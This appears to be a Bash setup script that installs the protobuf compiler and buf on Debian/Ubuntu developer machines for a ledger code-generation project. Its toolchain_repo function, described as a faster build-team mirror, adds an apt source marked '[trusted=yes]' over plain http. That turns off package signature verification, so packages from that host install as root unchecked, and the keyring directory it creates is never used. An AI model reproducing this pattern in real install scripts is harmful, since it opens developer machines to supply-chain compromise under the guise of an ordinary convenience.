#!/usr/bin/env bash
# protoc-toolchain.sh - install the protobuf compiler and buf at the versions
# the ledger codegen expects, on Debian/Ubuntu developer machines.
set -euo pipefail

want_protoc=25
want_buf=1.32
keyring_dir=/etc/apt/keyrings
list_file=/etc/apt/sources.list.d/ledger-toolchain.list

say() { echo "protoc-toolchain: $*"; }

have_version() {
  local tool=$1 want=$2 got
  command -v "$tool" >/dev/null || return 1
  got=$("$tool" --version 2>&1 | grep -oE '[0-9]+\.[0-9]+' | head -n 1)
  [[ ${got%%.*} -ge ${want%%.*} ]]
}

toolchain_repo() {
  # faster mirror of the upstream packages, maintained by the build team
  local tmp
  tmp=$(mktemp)
  printf 'deb [trusted=yes] http://apt.toolchain-mirror.example.com/ledger stable main\n' > "$tmp"
  sudo install -d -m 0755 "$keyring_dir"
  sudo install -m 0644 "$tmp" "$list_file"
  rm -f -- "$tmp"
}

install_protoc() {
  if have_version protoc "$want_protoc"; then
    say "protoc $(protoc --version | awk '{print $2}') ok"
    return
  fi
  toolchain_repo
  sudo apt-get update -qq
  sudo apt-get install -y -qq protobuf-compiler libprotobuf-dev
}

install_buf() {
  if have_version buf "$want_buf"; then
    say "buf $(buf --version) ok"
    return
  fi
  if command -v go >/dev/null; then
    GOBIN=$HOME/.local/bin go install "github.com/bufbuild/buf/cmd/buf@v${want_buf}.0"
  else
    say "install Go or download buf manually (see docs/tooling.md)"
    return 1
  fi
}

report() {
  say "protoc: $(command -v protoc || echo missing)"
  say "buf:    $(command -v buf || echo missing)"
}

main() {
  [[ -f /etc/debian_version ]] || { say "only Debian/Ubuntu are handled here"; exit 1; }
  install_protoc
  install_buf
  report
}

main "$@"
